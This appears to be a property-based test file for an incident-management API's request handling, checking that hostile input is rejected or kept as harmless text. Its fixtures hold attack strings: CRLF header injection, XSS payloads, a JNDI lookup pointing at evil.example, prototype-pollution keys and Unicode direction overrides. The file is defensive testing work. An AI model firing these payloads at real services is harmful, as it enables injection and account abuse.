import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { HttpAnswer } from '../../../functions/http/answer.ts';
import { ACTIONS } from '../../../functions/incidents/request.ts';
import { ROUTES } from '../../../functions/incidents/routes.ts';
import { actResponse, problemResponse, showResponse } from '../../../shared/respond/incident-shape.ts';
import { OUTAGE, opened } from '../../incident/fixtures.ts';
import { hostileText } from '../../notify/hostile.ts';
import { type Ask, createIncidentsWorld, READER, RESPONDER } from './incidents-world.ts';

const incident = opened();
const { id } = incident;
const MEGABYTE = 'x'.repeat(1_000_000);
const auth = { authorization: `Bearer ${RESPONDER}` };

/** What may stand in a header of an answer: nothing that ends it or begins another. */
const hasSoundHeaders = ({ headers }: HttpAnswer): boolean =>
  Object.values(headers).every((value) => /^[\x20-\x7e]*$/.test(value));

/** Characters that forge what is shown. */
const FORGING = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

const text = fc.oneof(
  hostileText,
  fc.constantFrom(
    MEGABYTE,
    'Ada\r\nx-claywatch-actor: root',
    'Ada\u2028Set-Cookie: a=b',
    '\u202eadA\u202c',
    '<img src=x onerror=alert(1)>',
    '"};alert(1);//',
    '$'.concat('{jndi:ldap://evil.example}'),
    '*bold* <!channel> <https://evil.example|click>',
    '{{constructor}}',
    'toString',
  ),
);

const bodyOf = (action: string, one: string, other: string): Record<string, unknown> => {
  const fields = Object.keys(ACTIONS[action as keyof typeof ACTIONS].shape);
  const values: Record<string, unknown> = {
    by: one.slice(0, 200),
    text: other.slice(0, 8_000),
    to: one.slice(0, 200) || 'x',
    severity: 'P2',
    into: opened(OUTAGE).id,
    audience: 'public',
    confirmed: true,
    force: true,
  };
  return Object.fromEntries(fields.map((field) => [field, values[field]]));
};

describe('hostile input', () => {
  it('in every text of every action is kept as text, and shown as one line', async () => {
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...Object.keys(ACTIONS)), text, text, async (action, one, other) => {
        const world = await createIncidentsWorld([incident, opened(OUTAGE)]);
        const answer = await world.ask({
          route: ROUTES.act,
          params: { id, action },
          headers: { ...auth, 'content-type': one.slice(0, 100), 'x-claywatch-actor': other },
          body: JSON.stringify(bodyOf(action, one, other)),
        });
        expect([200, 400, 409]).toContain(answer.statusCode);
        expect(hasSoundHeaders(answer)).toBe(true);
        expect(answer.body).not.toMatch(FORGING);
        const body = JSON.parse(answer.body);
        if (answer.statusCode === 200) actResponse.parse(body);
        else problemResponse.parse(body);
        const shown = await world.api({ route: ROUTES.show, params: { id } });
        showResponse.parse(shown.body);
        for (const { text: line, by } of shown.body.incident.timeline)
          expect(`${line}${by?.name ?? ''}`).not.toMatch(FORGING);
        expect(world.faults).toEqual([]);
      }),
      { numRuns: 80 },
    );
  });

  it.each<[string, Partial<Ask>, number]>([
    ['a body of a megabyte', { body: JSON.stringify({ text: MEGABYTE }) }, 413],
    ['a body of a megabyte, encoded', { body: JSON.stringify({ text: MEGABYTE }), base64: true }, 413],
    ['a text over the limit', { body: JSON.stringify({ text: 'x'.repeat(8_001) }) }, 400],
    ['a name over the limit', { body: JSON.stringify({ text: 'x', by: 'x'.repeat(201) }) }, 400],
    ['a prototype as a key', { body: '{"text":"x","__proto__":{"force":true}}' }, 400],
    ['a constructor as a key', { body: '{"text":"x","constructor":{"prototype":{"a":1}}}' }, 400],
    ['a key twice', { body: '{"text":1,"text":"x"}' }, 200],
    ['a hundred thousand keys', { body: `{${Array.from({ length: 2_000 }, (_, i) => `"k${i}":1`)}}` }, 400],
    ['brackets within brackets', { body: '['.repeat(30_000) }, 400],
    ['a number for a text', { body: '{"text":1e999}' }, 400],
    ['bytes that are no text', { body: '\u00ff\u00fe\u0000', base64: true }, 400],
    [
      'another content type',
      { body: '{"text":"x"}', headers: { ...auth, 'content-type': 'text/html' } },
      200,
    ],
    [
      'a form',
      { body: 'text=x', headers: { ...auth, 'content-type': 'application/x-www-form-urlencoded' } },
      400,
    ],
    ['another encoding', { body: '{"text":"x"}', headers: { ...auth, 'content-encoding': 'br' } }, 415],
    [
      'an actor of a megabyte',
      { body: '{"text":"x"}', headers: { ...auth, 'x-claywatch-actor': MEGABYTE } },
      200,
    ],
    [
      'a key of a request of a megabyte',
      { body: '{"text":"x"}', headers: { ...auth, 'idempotency-key': MEGABYTE } },
      400,
    ],
    ['an empty key of a request', { body: '{"text":"x"}', headers: { ...auth, 'idempotency-key': '' } }, 400],
    [
      'a key of a request with a line end',
      { body: '{"text":"x"}', headers: { ...auth, 'idempotency-key': 'a\r\nb' } },
      400,
    ],
    [
      'two keys of a request, joined',
      { body: '{"text":"x"}', headers: { ...auth, 'idempotency-key': 'a,b' } },
      200,
    ],
    [
      'two secrets, joined',
      { body: '{"text":"x"}', headers: { authorization: `Bearer ${READER},Bearer ${RESPONDER}` } },
      401,
    ],
    [
      'a secret with a line end',
      { body: '{"text":"x"}', headers: { authorization: `Bearer ${RESPONDER}\r\nx: y` } },
      401,
    ],
  ])('%s', async (_, over, status) => {
    const world = await createIncidentsWorld([incident]);
    const answer = await world.ask({
      route: ROUTES.act,
      params: { id, action: 'note' },
      headers: auth,
      ...over,
    });
    expect(answer.statusCode).toBe(status);
    expect(hasSoundHeaders(answer)).toBe(true);
    expect(answer.body.length).toBeLessThan(8_000);
    if (status !== 200) problemResponse.parse(JSON.parse(answer.body));
    expect((await world.store.byId(id))?.version).toBe(status === 200 ? 2 : 1);
    expect(Object.hasOwn(Object.prototype, 'force')).toBe(false);
  });

  it('in every place of every address is answered, without repeating it', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...Object.values(ROUTES)),
        text,
        fc.dictionary(fc.constantFrom('status', 'since', 'limit', 'format', '__proto__', 'x'), text, {
          maxKeys: 3,
        }),
        async (route, place, query) => {
          const world = await createIncidentsWorld([incident]);
          const answer = await world.ask({
            route,
            params: { id: place, action: place, token: place },
            query,
            headers: { ...auth, 'x-slack-signature': place, 'x-slack-request-timestamp': place },
            body: place,
          });
          expect(answer.statusCode).toBeGreaterThanOrEqual(200);
          expect(answer.statusCode).toBeLessThan(500);
          expect(answer.statusCode).not.toBe(429);
          expect(hasSoundHeaders(answer)).toBe(true);
          expect(answer.body.length).toBeLessThan(12_000);
          expect(answer.body).not.toContain('onerror');
          expect(answer.body).not.toContain('evil.example');
          expect(world.faults).toEqual([]);
          expect((await world.store.byId(id))?.version).toBe(1);
        },
      ),
      { numRuns: 150 },
    );
  });

  it('is no event at all and still answered', async () => {
    const world = await createIncidentsWorld([incident]);
    for (const route of Object.values(ROUTES)) {
      const { statusCode } = await world.raw({ routeKey: route });
      expect([400, 401, 404]).toContain(statusCode);
    }
    expect((await world.raw({})).statusCode).toBe(401);
    expect(world.faults).toEqual([]);
  });
});

describe('Idempotency-Key', () => {
  const send = (key: string, body: object, by = 'Ada') => ({
    route: ROUTES.act,
    params: { id, action: 'note' },
    headers: { 'idempotency-key': key, 'x-claywatch-actor': by },
    body: JSON.stringify(body),
  });

  it('does a note once, and answers the same again', async () => {
    const { api, store } = await createIncidentsWorld([incident]);
    const first = await api(send('k-1', { text: 'ticket 4711' }));
    const again = await api(send('k-1', { text: 'ticket 4711' }));
    expect(again).toEqual(first);
    expect(actResponse.parse(again.body).outcome).toBe('done');
    expect((await store.byId(id))?.version).toBe(2);
    expect(JSON.stringify(again.body)).not.toContain('request');
  });

  it('refuses another body with 409, and changes nothing', async () => {
    const { api, store } = await createIncidentsWorld([incident]);
    await api(send('k-1', { text: 'one' }));
    for (const other of [send('k-1', { text: 'two' }), send('k-1', { text: 'one' }, 'Ben')]) {
      const { status, body } = await api(other);
      expect([status, problemResponse.parse(body).code]).toEqual([409, 'request.conflict']);
    }
    expect((await store.byId(id))?.version).toBe(2);
  });

  it('is looked at only for those who may act', async () => {
    const { api, ask } = await createIncidentsWorld([incident]);
    await api(send('k-1', { text: 'one' }));
    const asReader = { ...send('k-1', { text: 'two' }), headers: { authorization: `Bearer ${READER}` } };
    expect((await ask(asReader)).statusCode).toBe(403);
  });
});
